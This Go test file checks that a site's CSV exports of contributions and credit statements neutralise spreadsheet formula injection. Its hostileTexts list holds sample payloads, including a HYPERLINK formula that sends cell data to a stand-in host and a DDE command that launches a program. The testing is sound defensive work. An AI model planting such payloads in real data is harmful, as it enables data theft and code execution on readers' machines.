package api_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"strconv"
	"testing"
	"time"
)

// hostileTexts are what a backer or a member may type to run a formula in
// the spreadsheet of whoever opens an export.
var hostileTexts = []string{
	`=HYPERLINK("http://x.example/?"&A1,"x")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1+1)`,
	`-2+3`,
}

// readCSV parses an export, failing unless it is CSV.
func readCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v\n%s", err, body)
	}
	return rows
}

func column(t *testing.T, rows [][]string, name string) int {
	t.Helper()
	for i, h := range rows[0] {
		if h == name {
			return i
		}
	}
	t.Fatalf("no column %q in %q", name, rows[0])
	return -1
}

// TestCSVExportsNeutraliseFormulas: a campaign's contributions imported
// from a platform's file, and a member's credit statement whose reasons a
// manager typed, come out of their exports as text, and their amounts still
// as numbers.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	f := newCalendarFixture(t)
	h := f.h
	anneID, anne, _ := h.member("anne@example.fr")

	t.Run("contributions", func(t *testing.T) {
		var c struct{ ID string }
		h.do(req{method: "POST", path: "/v1/sites/" + f.site + "/campaigns", token: f.manager, body: map[string]any{
			"title": "Un tour à bois", "goal_cents": 100000, "mode": "keep_it_all",
			"deadline": time.Date(2026, 4, 1, 12, 0, 0, 0, f.paris).Format(time.RFC3339),
			"tiers":    []map[string]any{{"name": "Merci", "min_cents": 1000, "credit_unit": "cents", "credit_amount": 1000}},
		}}).expect(t, http.StatusCreated).decode(t, &c)
		var file bytes.Buffer
		w := csv.NewWriter(&file)
		w.Write([]string{"contribution_id", "email", "amount", "date", "name", "public_name"})
		for i, s := range hostileTexts {
			w.Write([]string{"X-" + strconv.Itoa(i), "backer" + strconv.Itoa(i) + "@example.fr", "15,50", "2026-03-02", s, s})
		}
		w.Write([]string{"=1+1", "=cmd@example.fr", "12", "2026-03-02", "Zoé", ""})
		w.Flush()
		h.do(req{method: "POST", path: "/v1/campaigns/" + c.ID + "/imports", token: f.manager, body: file.String(),
			headers: map[string]string{"Content-Type": "text/csv"}}).expect(t, http.StatusCreated)

		rows := readCSV(t, h.do(req{method: "GET", path: "/v1/campaigns/" + c.ID + "/contributions.csv", token: f.manager}).
			expect(t, http.StatusOK).Body)
		name, pub, ext, email, amount := column(t, rows, "name"), column(t, rows, "public_name"),
			column(t, rows, "external_id"), column(t, rows, "email"), column(t, rows, "amount_cents")
		if len(rows) != 1+len(hostileTexts)+1 {
			t.Fatalf("%d rows:\n%q", len(rows), rows)
		}
		names := map[string]bool{}
		for _, row := range rows[1:] {
			names[row[name]] = true
			if row[name] != "Zoé" && row[pub] != row[name] {
				t.Errorf("public_name %q, name %q", row[pub], row[name])
			}
			if _, err := strconv.Atoi(row[amount]); err != nil {
				t.Errorf("amount %q is no longer a number", row[amount])
			}
			if row[name] == "Zoé" && (row[ext] != "'=1+1" || row[email] != "'=cmd@example.fr") {
				t.Errorf("id %q, email %q: want them quoted", row[ext], row[email])
			}
		}
		for _, s := range hostileTexts {
			if !names["'"+s] {
				t.Errorf("name %q is not written as text; names: %v", s, names)
			}
		}
	})

	t.Run("credit statement", func(t *testing.T) {
		for _, s := range hostileTexts {
			h.do(req{method: "POST", path: "/v1/users/" + anneID + "/credits", token: f.manager,
				body: map[string]any{"site_id": f.site, "action": "grant", "unit": "cents", "amount": 1000, "reason": s}}).expect(t, http.StatusCreated)
		}
		h.do(req{method: "POST", path: "/v1/users/" + anneID + "/credits", token: f.manager,
			body: map[string]any{"site_id": f.site, "action": "withdraw", "unit": "cents", "amount": 250, "reason": "@erreur"}}).expect(t, http.StatusCreated)

		rows := readCSV(t, h.do(req{method: "GET", path: "/v1/me/credits/statement.csv", token: anne}).expect(t, http.StatusOK).Body)
		reason, amount, balance := column(t, rows, "reason"), column(t, rows, "amount"), column(t, rows, "balance")
		if len(rows) != 1+len(hostileTexts)+1 {
			t.Fatalf("%d rows:\n%q", len(rows), rows)
		}
		for i, s := range hostileTexts {
			if got := rows[1+i][reason]; got != "'"+s {
				t.Errorf("reason %q written as %q", s, got)
			}
		}
		last := rows[len(rows)-1]
		if last[reason] != "'@erreur" || last[amount] != "-250" || last[balance] != strconv.Itoa(1000*len(hostileTexts)-250) {
			t.Errorf("withdrawal row %q: the amount must stay the number -250", last)
		}
	})
}
